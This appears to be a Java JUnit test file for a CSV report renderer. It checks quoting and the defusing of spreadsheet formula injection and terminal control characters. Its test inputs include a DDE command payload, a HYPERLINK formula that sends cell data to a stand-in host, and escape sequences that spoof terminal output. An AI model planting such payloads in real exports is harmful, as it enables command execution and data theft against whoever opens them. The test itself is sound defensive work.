package io.trailkeeper.report;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.trailkeeper.events.Table;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvRendererTest {

    private static List<Object> row(Object... values) {
        return Arrays.asList(values);
    }

    /** Renders a header and the given rows, and returns everything written. */
    private static String render(List<String> columns, List<List<Object>> rows) {
        StringWriter text = new StringWriter();
        CsvRenderer csv = new CsvRenderer(new PrintWriter(text));
        csv.columns(columns);
        rows.forEach(csv::row);
        csv.end();
        return text.toString();
    }

    /** The one data cell of a one-column table, as written (quotes and all). */
    private static String cell(Object value) {
        String out = render(List.of("c"), List.of(row(value)));
        String prefix = "c\r\n";
        assertEquals(prefix, out.substring(0, prefix.length()), out);
        assertEquals("\r\n", out.substring(out.length() - 2), out);
        return out.substring(prefix.length(), out.length() - 2);
    }

    @Test
    void headerRowThenRowsEachEndingInCrLf() {
        String out = render(List.of("eventName", "count", "ok"),
                List.of(row("ConsoleLogin", 3L, true), row("StopLogging", 1L, false)));
        assertEquals("eventName,count,ok\r\nConsoleLogin,3,true\r\nStopLogging,1,false\r\n", out);
    }

    @Test
    void headerOnlyWhenThereAreNoRows() {
        assertEquals("a,b\r\n", render(List.of("a", "b"), List.of()));
    }

    @Test
    void worksThroughTableWriteTo() {
        StringWriter text = new StringWriter();
        new Table("t", List.of("x", "y"), List.of(row("1", 2L))).writeTo(new CsvRenderer(new PrintWriter(text)));
        assertEquals("x,y\r\n1,2\r\n", text.toString());
    }

    @Test
    void plainTextIsNotQuoted() {
        assertEquals("hello world", cell("hello world"));
        assertEquals("", cell(""));
    }

    @Test
    void commaForcesQuotes() {
        assertEquals("\"a,b\"", cell("a,b"));
    }

    @Test
    void quotesAreDoubledInsideQuotes() {
        assertEquals("\"say \"\"hi\"\"\"", cell("say \"hi\""));
        assertEquals("\"\"\"\"", cell("\""));
    }

    @Test
    void lineBreaksForceQuotesAndAreKept() {
        assertEquals("\"line1\nline2\"", cell("line1\nline2"));
        assertEquals("\"line1\r\nline2\"", cell("line1\r\nline2"));
        assertEquals("\"a\rb\"", cell("a\rb"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(1)", "\tx", "=cmd|' /C calc'!A0"})
    void formulaLikeTextGetsALeadingApostrophe(String text) {
        String written = cell(text);
        List<String> parsed = parse(render(List.of("c"), List.of(row(text)))).get(1);
        assertEquals(List.of("'" + text), parsed, written);
    }

    @Test
    void hyperlinkUserAgentIsNeutralisedAndQuoted() {
        String agent = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"", cell(agent));
    }

    @Test
    void atSignIsNeutralised() {
        assertEquals("'@SUM(1)", cell("@SUM(1)"));
    }

    @Test
    void leadingCarriageReturnIsNeutralisedAndQuoted() {
        assertEquals("\"'\r=1\"", cell("\r=1"));
    }

    @Test
    void formulaCharactersLaterInTheTextAreLeftAlone() {
        assertEquals("a=b", cell("a=b"));
        assertEquals("x-1", cell("x-1"));
        assertEquals("user@example.com", cell("user@example.com"));
        assertEquals(" =1", cell(" =1"));
    }

    @Test
    void headerNamesAreNeutralisedToo() {
        String out = render(List.of("=evil", "ok"), List.of());
        assertEquals("'=evil,ok\r\n", out);
    }

    @Test
    void negativeNumbersAreNotNeutralised() {
        assertEquals("-5", cell(-5L));
        assertEquals("-1.5", cell(-1.5d));
        assertEquals("-2.50", cell(new BigDecimal("-2.50")));
        assertEquals("-7", cell(-7));
    }

    @Test
    void wholeDoublesLoseTheirDecimalPoint() {
        assertEquals("3", cell(3.0d));
        assertEquals("0.25", cell(0.25d));
    }

    @Test
    void booleans() {
        assertEquals("true", cell(true));
        assertEquals("false", cell(false));
    }

    @Test
    void listsAreJoinedWithCommaSpaceAndQuoted() {
        assertEquals("\"a, b, c\"", cell(List.of("a", "b", "c")));
        assertEquals("single", cell(List.of("single")));
        assertEquals("", cell(List.of()));
    }

    @Test
    void listsOfMixedValues() {
        assertEquals("\"x, 2, 2023-07-10T11:42:36Z, \"", cell(row("x", 2L, Instant.parse("2023-07-10T11:42:36Z"), null)));
    }

    @Test
    void listStartingWithAFormulaIsNeutralised() {
        assertEquals("\"'=cmd(), b\"", cell(List.of("=cmd()", "b")));
        assertEquals("'@x", cell(List.of("@x")));
    }

    @Test
    void instantIsUtcIso8601() {
        // Tests run in Pacific/Chatham: a local-zone rendering would show +12:45.
        assertEquals("2023-07-10T11:42:36Z", cell(Instant.parse("2023-07-10T11:42:36Z")));
        assertEquals("2023-07-10T11:42:36.123Z", cell(Instant.parse("2023-07-10T11:42:36.123Z")));
    }

    @Test
    void nullIsAnEmptyCell() {
        String out = render(List.of("a", "b", "c"), List.of(row("x", null, "z"), row(null, null, null)));
        assertEquals("a,b,c\r\nx,,z\r\n,,\r\n", out);
    }

    @Test
    void everyFieldSurvivesAStrictRfc4180Parse() {
        List<String> columns = List.of("userAgent", "requestParameters", "n", "t", "list", "empty");
        List<List<Object>> rows = List.of(
                row("aws-cli/2.0 \"quoted\", with comma", "{\"bucket\":\"a,b\"}\r\nnext line", -5L,
                        Instant.parse("2023-07-10T11:42:36Z"), List.of("=x", "y"), null),
                row("=HYPERLINK(\"u\")", "+SUM(A1)", 0L, Instant.EPOCH, List.of(), ""));
        List<List<String>> parsed = parse(render(columns, rows));
        assertEquals(List.of(
                columns,
                List.of("aws-cli/2.0 \"quoted\", with comma", "{\"bucket\":\"a,b\"}\r\nnext line", "-5",
                        "2023-07-10T11:42:36Z", "'=x, y", ""),
                List.of("'=HYPERLINK(\"u\")", "'+SUM(A1)", "0", "1970-01-01T00:00:00Z", "", "")), parsed);
    }

    /**
     * A strict RFC 4180 reader: records end in CRLF, a quoted field may hold anything with quotes doubled,
     * and a bare quote or a line break outside quotes is an error.
     */
    static List<List<String>> parse(String csv) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        int i = 0;
        int n = csv.length();
        while (i < n) {
            if (csv.charAt(i) == '"') {
                i++;
                while (true) {
                    if (i >= n) {
                        throw new AssertionError("unterminated quoted field in " + csv);
                    }
                    char c = csv.charAt(i++);
                    if (c == '"') {
                        if (i < n && csv.charAt(i) == '"') {
                            field.append('"');
                            i++;
                        } else {
                            break;
                        }
                    } else {
                        field.append(c);
                    }
                }
            } else {
                while (i < n && csv.charAt(i) != ',' && csv.charAt(i) != '\r') {
                    char c = csv.charAt(i++);
                    if (c == '"' || c == '\n') {
                        throw new AssertionError("bare " + (c == '"' ? "quote" : "LF") + " in " + csv);
                    }
                    field.append(c);
                }
            }
            if (i >= n) {
                throw new AssertionError("last record does not end in CRLF: " + csv);
            }
            char c = csv.charAt(i);
            if (c == ',') {
                record.add(field.toString());
                field.setLength(0);
                i++;
            } else if (c == '\r' && i + 1 < n && csv.charAt(i + 1) == '\n') {
                record.add(field.toString());
                field.setLength(0);
                records.add(record);
                record = new ArrayList<>();
                i += 2;
            } else {
                throw new AssertionError("unexpected character after field at " + i + " in " + csv);
            }
        }
        return records;
    }

    @Test
    void onATerminalCellsHoldNoControlDirectionOrInvisibleCharacter() {
        StringWriter text = new StringWriter();
        CsvRenderer csv = new CsvRenderer(new PrintWriter(text), true);
        csv.columns(List.of("user_agent"));
        csv.row(row("\u001b]8;;http://evil/\u0007x\u001b]8;;\u0007 admin\u202Egpj.exe\u009b2J"));
        csv.row(row("\t=1+1"));
        csv.end();
        assertEquals("user_agent\r\n ]8;;http://evil/ x ]8;;  admin?gpj.exe 2J\r\n' =1+1\r\n", text.toString());
        StringWriter file = new StringWriter();
        CsvRenderer exact = new CsvRenderer(new PrintWriter(file));
        exact.columns(List.of("a"));
        exact.row(row("x\u001by"));
        exact.end();
        assertEquals("a\r\nx\u001by\r\n", file.toString(), "to a file the text stays exact");
    }
}
